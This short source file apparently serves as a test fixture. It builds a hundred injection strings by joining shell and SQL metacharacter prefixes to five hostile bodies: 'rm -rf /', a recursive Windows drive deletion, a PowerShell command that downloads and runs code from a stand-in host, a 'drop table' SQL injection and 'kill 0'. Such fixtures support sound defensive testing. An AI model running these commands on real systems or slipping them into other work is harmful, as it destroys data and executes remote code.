const STARTS = [
  '',
  '"',
  "'",
  '`',
  '$(',
  '${',
  ';',
  '|',
  '&',
  '\n',
  '\r\n',
  '-',
  '--',
  '../',
  '%',
  '@',
  '#',
  '<',
  '>',
  '\\',
];
const BODIES = [
  'rm -rf /',
  'Remove-Item C:\\ -Recurse',
  'IEX (New-Object Net.WebClient).DownloadString("http://x")',
  "'; drop table ticket; --",
  'kill 0',
];

/** A hundred strings that would do something where somebody took them for more than text. */
export const INJECTIONS: readonly string[] = STARTS.flatMap((start) => BODIES.map((body) => `${start}${body}`));
